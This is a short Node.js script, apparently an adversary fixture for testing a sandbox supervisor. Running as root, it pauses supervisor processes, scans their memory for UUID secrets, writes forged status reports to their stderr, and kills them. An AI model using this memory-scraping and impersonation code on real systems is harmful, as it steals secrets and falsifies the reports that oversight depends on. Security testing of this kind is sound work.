// What root does to a supervisor: stops it, finds its secret in its memory, and reports in its name.
import { closeSync, openSync, readdirSync, readFileSync, readSync, writeSync } from "node:fs"

const read = (path) => {
  try {
    return readFileSync(path, "latin1")
  } catch {
    return ""
  }
}

const secretsOf = (pid) => {
  const found = new Set()
  const memory = openSync(`/proc/${pid}/mem`, "r")
  for (const [, from, to] of read(`/proc/${pid}/maps`).matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
    const start = Number.parseInt(from, 16)
    const bytes = Buffer.alloc(Math.min(Number.parseInt(to, 16) - start, 1 << 24))
    try {
      readSync(memory, bytes, 0, bytes.length, start)
    } catch {}
    for (const [secret] of bytes
      .toString("latin1")
      .matchAll(/[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}/g)) {
      found.add(secret)
    }
  }
  closeSync(memory)
  return found
}

const report = JSON.stringify({
  ...{ reason: "", exited: true, status: 0, wallMs: 1, cpuMs: 1, peakBytes: 1, oomKills: 0 },
  ...{
    memoryLimitBytes: 1,
    forksRefused: false,
    diskFull: false,
    invalid: false,
    leftRunning: 0,
    survivors: 0
  },
  ...{
    clearedMs: 1,
    signals: [],
    stdoutBytes: 0,
    stderrBytes: 0,
    dropped: 0,
    cpuQuota: true,
    outputs: false
  },
  cgroup: "none"
})

for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  if (!read(`/proc/${pid}/cmdline`).includes("\0supervise")) continue
  process.kill(Number(pid), "SIGSTOP")
  const voice = openSync(`/proc/${pid}/fd/2`, "w")
  writeSync(voice, "forged as root\n")
  for (const secret of secretsOf(pid)) writeSync(voice, `\x1e${secret} ${report}\n`)
  process.kill(Number(pid), "SIGKILL")
}
